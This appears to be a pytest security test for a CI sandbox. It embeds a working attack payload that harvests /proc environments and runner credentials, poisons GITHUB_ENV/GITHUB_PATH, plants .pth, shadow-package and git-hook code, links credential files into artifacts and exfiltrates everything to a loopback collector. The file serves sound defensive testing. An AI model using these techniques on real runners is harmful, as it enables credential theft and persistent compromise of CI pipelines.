"""The job that runs the pull request's code holds nothing worth taking (security review
2026-12-01, N1): the App-mode workflow (examples/workflows/perfgate.yml) run as a self-hosted
runner runs it (tests/action/runner_job.py: each step's environment, the step command files,
the same OS user, the JavaScript actions' processes holding their tokens), with a head revision
whose install command and benchmark module try every route the review found, and more:

A  a setsid daemon reading every later process's ``/proc/<pid>/environ``;
B  ``$RUNNER_TEMP/action/__main__.py`` shadowing perfgate's package for later steps;
C  ``BASH_ENV``/``NODE_OPTIONS``/``LD_PRELOAD`` appended to ``GITHUB_ENV``, a ``python3`` first on ``GITHUB_PATH``;
D  a ``.pth`` in the runner's interpreter;
E  symbolic links, a FIFO and a hard link in its results folder (the artifact);
F  a ``core.fsmonitor`` and hooks in the clone's ``.git`` for checkout's post step;
G  the runner's registration credentials and the home folder's ``.git-credentials``;
H  files left in the machine's ``/tmp`` and ``/dev/shm``; ``sudo``; signals to the runner.

What it finds it sends to a collector on loopback (a network is what a real attacker has).
With ``sandbox: bwrap`` (the default) nothing reaches the collector, the artifact, the logs or
a later step; the same job with ``sandbox: none`` shows that the probes work.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import subprocess
from pathlib import Path

import pytest

from tests.action.runner_job import REPO_ROOT, Collector, EmulatedRunner, processes_with, run_workflow_job, runner_python
from tests.action.target_repo import probing_files, two_commit_repo

pytestmark = [pytest.mark.slow, pytest.mark.skipif(shutil.which("bwrap") is None,
                                                   reason="bubblewrap is not installed (apt-get install bubblewrap)")]

MARKER = "PERFGATE_ATTACK_MARKER"

ATTACK = r'''
import glob, json, os, socket, subprocess, sys, time

COLLECTOR = ("127.0.0.1", {port})
P = {paths!r}
ME = {marker!r}


def send(kind, data):
    try:
        with socket.create_connection(COLLECTOR, timeout=5) as s:
            s.sendall(json.dumps({{"kind": kind, "data": data}}, default=str).encode() + b"\n")
    except OSError:
        pass


def attempt(kind, fn):
    try:
        send(kind, {{"ok": True, "result": fn()}})
    except Exception as exc:
        send(kind, {{"ok": False, "error": repr(exc)}})


def environs():
    found = {{}}
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as fh:
                found[path] = fh.read().decode("utf-8", "replace")
        except OSError:
            pass
    return found


def read(path):
    with open(path, encoding="utf-8", errors="replace") as fh:
        return fh.read()


def append(path, text):
    with open(path, "a") as fh:
        fh.write(text)
    return path


def leak_script():
    return ("import os, socket, json\n"
            "try:\n"
            "    s = socket.create_connection(%r, timeout=3)\n"
            "    s.sendall(json.dumps({{'kind': 'planted', 'data': dict(os.environ)}}).encode() + b'\\n'); s.close()\n"
            "except OSError:\n    pass\n" % (COLLECTOR,))


def daemon(seconds):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    os.environ[ME] = "1"
    seen = set()
    end = time.time() + seconds
    while time.time() < end:
        for path, text in environs().items():
            key = hash(text)
            if key not in seen:
                seen.add(key)
                send("daemon", {{path: text}})
        time.sleep(0.1)
    os._exit(0)


def plant_file_commands():
    planted = []
    evil = os.path.join(P["temp"], "evil.sh")
    with open(evil, "w") as fh:
        fh.write("python3 -c %r\n" % leak_script())
    for f in glob.glob(P["temp"] + "/_runner_file_commands/set_env_*"):
        planted.append(append(f, f"BASH_ENV={{evil}}\nNODE_OPTIONS=--require={{evil}}\nLD_PRELOAD=/nonexistent/evil.so\n"))
    wrapper_dir = os.path.join(P["temp"], "evil-bin")
    os.makedirs(wrapper_dir, exist_ok=True)
    wrapper = os.path.join(wrapper_dir, "python3")
    with open(wrapper, "w") as fh:
        fh.write("#!/bin/sh\n%s -c %r\nexec %s \"$@\"\n" % (sys.executable, leak_script(), sys.executable))
    os.chmod(wrapper, 0o755)
    for f in glob.glob(P["temp"] + "/_runner_file_commands/add_path_*"):
        planted.append(append(f, wrapper_dir + "\n"))
    return planted


def plant_shadow_package():
    os.makedirs(os.path.join(P["temp"], "action"), exist_ok=True)
    with open(os.path.join(P["temp"], "action", "__main__.py"), "w") as fh:
        fh.write(leak_script())
    with open(os.path.join(P["temp"], "action", "__init__.py"), "w") as fh:
        fh.write("")
    return "planted"


def plant_pth():
    with open(os.path.join(P["site"], "zzz_attack.pth"), "w") as fh:
        fh.write("import os; exec(%r)\n" % leak_script())
    return "planted"


def plant_git():
    append(os.path.join(P["workspace"], ".git", "config"), "[core]\n\tfsmonitor = python3 -c \"%s\"\n" % "import os")
    hook = os.path.join(P["workspace"], ".git", "hooks", "post-checkout")
    with open(hook, "w") as fh:
        fh.write("#!/bin/sh\nenv > /tmp/hooked\n")
    os.chmod(hook, 0o755)
    return "planted"


def results_folder():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = read(path).split("\0")
        except OSError:
            continue
        for arg in args:
            if arg.startswith("--out="):
                return arg.split("=", 1)[1]
    return None


def plant_artifact():
    out = results_folder()
    if not out:
        return "no results folder found"
    os.makedirs(out, exist_ok=True)
    done = []
    for name, target in (("leak-credentials.txt", P["credentials"]), ("leak-home.txt", P["home_credentials"]),
                         ("leak-environ.txt", "/proc/1/environ"), ("leak-dir", P["runner"])):
        try:
            os.symlink(target, os.path.join(out, name))
            done.append(name)
        except OSError as exc:
            done.append(f"{{name}}: {{exc}}")
    try:
        os.mkfifo(os.path.join(out, "hang.fifo"))
        done.append("fifo")
    except OSError as exc:
        done.append(f"fifo: {{exc}}")
    try:
        os.link(P["credentials"], os.path.join(out, "hard.txt"))
        done.append("hardlink")
    except OSError as exc:
        done.append(f"hardlink: {{exc}}")
    return done


def litter():
    done = []
    for path in ("/tmp/" + ME, "/dev/shm/" + ME):
        try:
            with open(path, "w") as fh:
                fh.write("x")
            done.append(path)
        except OSError as exc:
            done.append(f"{{path}}: {{exc}}")
    return done


def run(where):
    attempt(where + ":env", lambda: dict(os.environ))
    attempt(where + ":proc", environs)
    for key in ("credentials", "runner_file", "home_credentials"):
        attempt(where + ":read:" + key, lambda key=key: read(P[key]))
    attempt(where + ":file-commands", plant_file_commands)
    attempt(where + ":shadow", plant_shadow_package)
    attempt(where + ":pth", plant_pth)
    attempt(where + ":git", plant_git)
    attempt(where + ":artifact", plant_artifact)
    attempt(where + ":litter", litter)
    attempt(where + ":sudo", lambda: subprocess.run(["sudo", "-n", "cat", P["credentials"]], capture_output=True,
                                                    text=True, timeout=10).stdout)
    attempt(where + ":signal", lambda: os.kill(P["worker_pid"], signal_stop()))
    daemon(P["linger"])


def signal_stop():
    import signal
    return signal.SIGSTOP
'''



def _tree_digest(*roots: Path, skip: tuple[Path, ...] = ()) -> dict[str, str]:
    """Every file and link under ``roots`` (not following links) with a digest of its content."""
    seen = {}
    for root in roots:
        if root.is_file():
            seen[str(root)] = hashlib.sha256(root.read_bytes()).hexdigest()
        for folder, dirs, names in os.walk(root):
            if any(Path(folder).is_relative_to(s) for s in skip):
                dirs[:] = []
                continue
            for name in names + [d for d in dirs if os.path.islink(os.path.join(folder, d))]:
                path = Path(folder) / name
                if path.is_symlink():
                    seen[str(path)] = "link:" + os.readlink(path)
                elif path.is_file():
                    seen[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return seen


def _target(runner: EmulatedRunner, origin: Path, collector: Collector, site: Path, linger: float):
    paths = {"temp": str(runner.temp), "site": str(site), "workspace": str(runner.workspace),
             "credentials": str(runner.runner_dir / ".credentials_rsaparams"),
             "runner_file": str(runner.runner_dir / ".runner"), "home_credentials": str(runner.home / ".git-credentials"),
             "runner": str(runner.runner_dir), "worker_pid": runner.worker.pid, "linger": linger}
    base = probing_files("attack", "run")
    attack = ATTACK.format(port=collector.port, paths=paths, marker=MARKER)
    base_sha, head_sha = two_commit_repo(origin, runner.workspace, base, {"attack.py": attack})
    return base_sha, head_sha


def _run_job(tmp_path: Path, fake_github, sandbox: str, linger: float = 12.0, pod=None):
    """The job on the emulated runner; with ``pod`` (:class:`tests.deploy.runner_pod.RunnerPod`)
    every process of the runner runs as that Kubernetes pod's container (``tmp_path`` must then
    be a folder the pod's uid reaches; the runner's files become the pod user's)."""
    import sysconfig

    from runner.sandbox.bubblewrap import interpreter_paths

    from tests.action.events import workflow_dispatch

    python = runner_python(tmp_path / "runner-python")
    site = Path(sysconfig.get_paths(vars={"base": str(python.parent.parent),
                                          "platbase": str(python.parent.parent)})["purelib"])
    collector = Collector()
    runner = EmulatedRunner(tmp_path / "machine", python)
    if pod is not None:
        runner.wrap = pod.prefix(tmp_path, interpreter_paths(str(python)))
        runner.owner = (pod.uid, pod.gid)
    with runner:
        base_sha, head_sha = _target(runner, tmp_path / "origin", collector, site, linger)
        fake_github.state.add_token(runner.secrets.github_token)
        fake_github.state.add_pull("octo/demo", 7, head_sha=head_sha, base_sha=base_sha, title="Faster sums")
        event = tmp_path / "event.json"
        event.write_text(json.dumps(workflow_dispatch(base_sha=base_sha, head_sha=head_sha, pr_number=7,
                                                      run_id="pg-1")))
        runner.extra_env = {"GITHUB_API_URL": fake_github.url, "GITHUB_EVENT_NAME": "workflow_dispatch",
                            "GITHUB_EVENT_PATH": str(event), "GITHUB_SHA": base_sha}
        if pod is not None:  # the runner's files are its user's, as in the pod
            subprocess.run(["chown", "-R", f"{pod.uid}:{pod.gid}", str(tmp_path)], check=True,
                           timeout=120)
        # what a later step runs or reads: (prepare's fetch legitimately adds objects and refs)
        guarded = (runner.runner_dir / ".credentials_rsaparams", runner.home, site, runner.workspace / ".git" / "config",
                   runner.workspace / ".git" / "hooks")
        skip = (site / "pip",)  # the pip stand-in records what action.yml's install step asked for
        before = _tree_digest(*guarded, skip=skip)
        overrides = {"sandbox": sandbox}
        if sandbox == "none":  # inside Actions only with the workflow's statement (inputs.py)
            overrides["unsafe-no-sandbox-job-is-read-only"] = "true"
        inputs = {"base-sha": base_sha, "head-sha": head_sha, "pr-number": "7", "run-id": "pg-1", "filter": "",
                  "rounds": "", "threshold": "", "profile": "", "runs-on": "", "runner": "", "bisect": ""}
        try:
            contexts = run_workflow_job(runner, REPO_ROOT / "examples" / "workflows" / "perfgate.yml", "compare",
                                        inputs, action_overrides=overrides)
        finally:
            survivors = processes_with(MARKER + "=1")
            for pid in survivors:
                os.kill(pid, signal.SIGKILL)
        after = _tree_digest(*guarded, skip=skip)
        worker_state = Path(f"/proc/{runner.worker.pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        runner.worker_status = Path(f"/proc/{runner.worker.pid}/status").read_text()  # whose it was
    collector.__exit__()
    return runner, collector, contexts, survivors, before, after, site, worker_state


@pytest.fixture
def clean_litter():
    yield
    for path in (Path("/tmp") / MARKER, Path("/dev/shm") / MARKER):
        path.unlink(missing_ok=True)


def test_pull_request_code_in_the_sandbox_reaches_nothing(tmp_path, fake_github, clean_litter):
    _assert_reaches_nothing(*_run_job(tmp_path, fake_github, "bwrap"))


needs_the_pod = pytest.mark.skipif(
    os.geteuid() != 0 or os.uname().machine != "x86_64"
    or not Path("/usr/include/x86_64-linux-gnu/asm/unistd_64.h").exists(),
    reason="runs the job as the pod's uid under its compiled seccomp profile: root, x86_64 headers")


def _in_the_pod(fake_github, sandbox: str, **kw):
    """_run_job with every runner process as values.yaml's runner container; also returns the
    Runner.Worker's /proc status (whose process it was)."""
    import tempfile

    yaml = pytest.importorskip("yaml")
    from tests.deploy.runner_pod import RUNNERS, runner_pod

    pod = runner_pod(yaml.safe_load((RUNNERS / "values.yaml").read_text()))
    folder = Path(tempfile.mkdtemp(prefix="perfgate-pod-job-", dir="/tmp"))  # tmp_path: root's only
    folder.chmod(0o711)
    try:
        result = _run_job(folder, fake_github, sandbox, pod=pod, **kw)
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    lines = result[0].worker_status.splitlines()
    status = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
    # the runner's processes did run as the pod's container: its uid, no capability, the profile
    assert status["Uid"].split()[0] == "1001" and status["CapBnd"].strip() == "0" * 16, status
    assert status["NoNewPrivs"].strip() == "1" and status["Seccomp"].strip() == "2"
    return result


@needs_the_pod
def test_the_kubernetes_runner_pod_reaches_nothing_either(fake_github, clean_litter):
    """Security review 2026-12-06 N1/F1 on the documented ARC deployment: the same job, every
    process of the runner run as deploy/kubernetes/runners/values.yaml's runner container runs it
    (uid 1001, no_new_privs, no capabilities, its Localhost seccomp profile compiled to BPF:
    tests/deploy/runner_pod.py) and the sandbox on — user mode, as uid 1001 has it. The PR's code
    reaches none of the 6 secrets, as on a VM runner. (No kubelet here: not the runtime's /proc
    masks, AppArmor or the pod's user namespace; tests/deploy/test_runner_pod_sandbox.py.)"""
    _assert_reaches_nothing(*_in_the_pod(fake_github, "bwrap"))


@needs_the_pod
def test_the_kubernetes_runner_pod_without_the_sandbox_is_wide_open(fake_github, clean_litter):
    """The control, and the finding itself: the pod's own settings (its user, no capabilities, its
    seccomp profile) do not stop the attack — with sandbox: none (the old advice) the PR's code in
    the same pod takes the runner's secrets and plants code for the later steps."""
    runner, collector, _contexts, _survivors, before, after, _site, _state = _in_the_pod(
        fake_github, "none", linger=6)
    found = runner.secrets.found_in(collector.text())
    assert {"runner_credentials", "worker_secret", "home_credentials"} <= set(found), found
    assert "BASH_ENV" in runner.env_from_files and after != before


def _assert_reaches_nothing(runner, collector, contexts, survivors, before, after, site,
                            worker_state):
    secrets = runner.secrets
    assert len(secrets.all()) == 6
    everything = "".join([collector.text(), *(s.stdout + s.stderr + getattr(s, "summary", "") for s in runner.steps),
                          json.dumps([getattr(s, "record", {}) for s in runner.steps])])
    assert secrets.found_in(everything) == [], secrets.found_in(everything)

    # the attack ran — at install and in the benchmark — but inside; and the compare still measured
    kinds = collector.kinds()
    assert {"install:env", "benchmark:env", "install:proc", "benchmark:read:credentials"} <= kinds, sorted(kinds)
    assert "benchmark:read:credentials" not in collector.kinds(ok=True)
    upload = next(s for s in runner.steps if getattr(s, "record", {}).get("role") == "upload-artifact")
    uploaded = upload.record["uploaded"]
    assert "results.json" in uploaded and json.loads(uploaded["results.json"])["benchmarks"][0]["name"] == "bench_sum"
    assert not [n for n in uploaded if n.startswith(("leak", "hard", "hang"))], sorted(uploaded)
    assert contexts["steps.perfgate.outputs.verdict"] in ("regression", "unchanged", "inconclusive", "improvement")

    # no later step was changed: nothing appended to the step command files, nothing planted
    assert not {"BASH_ENV", "NODE_OPTIONS", "LD_PRELOAD"} & set(runner.env_from_files), runner.env_from_files
    assert runner.path_from_files == []
    assert not (runner.temp / "action").exists() and not (runner.temp / "evil.sh").exists()
    assert after == before, sorted(set(after.items()) ^ set(before.items()))
    assert not (site / "zzz_attack.pth").exists()
    assert "planted" not in collector.kinds()  # no later process ran planted code
    # nothing outlived the compare step, nothing was left in the machine's shared folders
    assert survivors == []
    assert not (Path("/tmp") / MARKER).exists() and not (Path("/dev/shm") / MARKER).exists()
    assert worker_state in ("S", "R"), worker_state  # the runner was never stopped
    # the sandbox's folder is gone; the artifact is the laundered copy
    assert not list(runner.temp.glob("perfgate-sandbox-*"))


def test_the_same_job_without_the_sandbox_is_wide_open(tmp_path, fake_github, clean_litter):
    """The control: with ``sandbox: none`` the probes above do find the secrets and change later
    steps — so the test above would fail if the sandbox did not hold."""
    runner, collector, _contexts, _survivors_, before, after, _site, _state = _run_job(tmp_path, fake_github, "none",
                                                                                      linger=6)
    found = runner.secrets.found_in(collector.text())
    assert {"runner_credentials", "worker_secret", "home_credentials"} <= set(found), found
    assert "BASH_ENV" in runner.env_from_files and runner.path_from_files
    assert after != before
    assert "planted" in collector.kinds()  # a later step's interpreter ran the planted .pth
    upload = next(s for s in runner.steps if s.record.get("role") == "upload-artifact")
    assert "runner_credentials" in runner.secrets.found_in(json.dumps(upload.record))  # a link in the artifact
